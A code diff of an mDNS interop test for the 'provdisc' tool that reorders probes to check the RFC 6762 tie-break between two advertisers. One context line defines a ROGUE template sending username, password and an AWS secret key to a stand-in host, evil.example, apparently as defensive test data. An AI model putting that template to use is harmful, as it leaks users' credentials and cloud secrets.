@@ -4,12 +4,14 @@
  * advertisers that disagree. Host c only watches (tshark) and discovers; a and b advertise.
  * provdisc never renames: for Jitsi a renamed instance is a missing one.
  */
+import path from 'node:path';
 import { beforeAll, describe, expect, test } from 'vitest';
 import { TYPE, type CapturedPacket } from '../lab/capture.js';
-import type { LabHost } from '../lab/host.js';
-import { zeroconfRegister } from '../lab/peers.js';
+import { REPO_ROOT, type LabHost } from '../lab/host.js';
+import { SYSTEM_PYTHON, zeroconfRegister } from '../lab/peers.js';
 import type { SpawnedProcess } from '../lab/process.js';
 import { requirePeers } from '../lab/requirements.js';
+import { StartGate } from '../lab/start-gate.js';
 import { useLab } from '../lab/vitest.js';
 import { announcements, INSTANCE, instanceNamesSent, queriesFrom, responsesFrom, templateTxt } from './fixtures/wire.js';
 
@@ -17,6 +19,7 @@ const need = requirePeers(['tshark', 'zeroconf', 'avahi']);
 // same length, so the TXT records (compared first, RFC 6762 §8.2) differ only at prov-a / prov-b
 const TEMPLATE_A = 'https://prov-a.example/p.php?username=${username}&osname=${osname}';
 const TEMPLATE_B = 'https://prov-b.example/p.php?username=${username}&osname=${osname}';
+const WAIT_FOR_PROBE = path.join(REPO_ROOT, 'test/interop/fixtures/mdns_wait_probe.py');
 const ROGUE = 'https://evil.example/grab.php?username=${username}&password=${password}&secret=${env.AWS_SECRET_ACCESS_KEY}';
 
 type Outcome = { announced: true } | { announced: false; code: number | null };
@@ -61,32 +64,39 @@ describe(`name conflicts on one bridged link${need.note}`, { skip: need.skip }, 
     [a, b, c] = [lab().host('a'), lab().host('b'), lab().host('c')];
   });
 
-  test('simultaneous probes: exactly one announces, the other exits 1 naming the winner; the lexicographically later records win', async () => {
+  test('simultaneous probes: the later records win even when the other host probes first; the loser exits 1 naming the winner', async () => {
     const capture = await c.capture('eth0');
-    const advA = a.spawnProvdisc(['advertise', '--json', TEMPLATE_A]);
-    const advB = b.spawnProvdisc(['advertise', '--json', TEMPLATE_B]);
+    // A (the earlier records) goes first; B is let through once A's first probe is on the wire, so
+    // B probes while A is still probing. B can then win only by the tie-break, not by coming first.
+    const watch = c.spawn(SYSTEM_PYTHON, [WAIT_FOR_PROBE, c.ipv4, a.ipv4, '15']);
+    await watch.waitForLine(/^listening$/, 5_000);
+    const gateA = new StartGate(path.join(a.workDir, 'probe-a.gate'));
+    const gateB = new StartGate(path.join(a.workDir, 'probe-b.gate'));
+    const advA = a.spawnProvdisc(['advertise', '--json', TEMPLATE_A], { gate: gateA });
+    const advB = b.spawnProvdisc(['advertise', '--json', TEMPLATE_B], { gate: gateB });
+    await gateB.whenReady(1);
+    await gateA.open(1);
+    await watch.waitForLine(/^probe$/, 15_000);
+    await gateB.open(1);
     const [outA, outB] = await Promise.all([outcomeOf(advA), outcomeOf(advB)]);
-    const [loser, loserHost, winnerHost] = outA.announced ? [advB, b, a] : [advA, a, b];
-    // the loser is given the time to lose: its back-off, a new probe, the winner's defence
-    await Promise.race([loser.exited, new Promise((r) => setTimeout(r, 5_000))]);
+    // A is given the time to lose: its back-off, the check that follows, B's announcement
+    await Promise.race([advA.exited, new Promise((r) => setTimeout(r, 5_000))]);
     const packets = await capture.stop();
     await Promise.all([advA.stop(), advB.stop()]);
 
-    expect([outA.announced, outB.announced].filter(Boolean), `both or neither announced:\n${advA.tail()}\n${advB.tail()}`).toHaveLength(1);
-    expect(loser.lines.stdout.join('\n'), 'the loser announced').not.toMatch(/"event":"announced"/);
-    expect((await loser.exited).code).toBe(1);
-    expect(loser.lines.stderr.join('\n')).toContain(`already advertised by ${winnerHost.ipv4}`);
-
-    // both probed before anyone announced: the tie-break decided, not who came first
-    const firstAnnouncement = announcements(packets, winnerHost.ipv4)[0]!;
-    const probesBefore = (h: LabHost) =>
-      queriesFrom(packets, h.ipv4).filter((p) => p.time < firstAnnouncement.time && p.authorities.some((r) => r.name === INSTANCE));
-    expect(probesBefore(loserHost).length, 'the loser probed only after the winner announced').toBeGreaterThan(0);
-    expect(probesBefore(winnerHost).length).toBeGreaterThan(0);
     // §8.2: TXT (type 16) is compared before SRV; "prov-b" > "prov-a"
-    expect(winnerHost).toBe(b);
-    expect(announcements(packets, loserHost.ipv4)).toEqual([]);
-    expect([...instanceNamesSent(packets, loserHost.ipv4)]).toEqual([INSTANCE]);
+    expect(outB, `B did not announce:\n${advB.tail()}`).toEqual({ announced: true });
+    expect(outA.announced, `A announced:\n${advA.tail()}`).toBe(false);
+    expect((await advA.exited).code).toBe(1);
+    expect(advA.lines.stderr.join('\n')).toContain(`already advertised by ${b.ipv4}`);
+
+    // the order on the wire: A probed first, B probed before anyone announced
+    const probes = (h: LabHost) => queriesFrom(packets, h.ipv4).filter((p) => p.authorities.some((r) => r.name === INSTANCE));
+    const firstAnnouncement = announcements(packets, b.ipv4)[0]!;
+    expect(probes(a)[0]!.time).toBeLessThan(probes(b)[0]!.time);
+    expect(probes(b)[0]!.time).toBeLessThan(firstAnnouncement.time);
+    expect(announcements(packets, a.ipv4)).toEqual([]);
+    expect([...instanceNamesSent(packets, a.ipv4)]).toEqual([INSTANCE]);
   });
 
   test('a name held by python-zeroconf: provdisc exits 1, names the holder and its template, never renames', async () => {
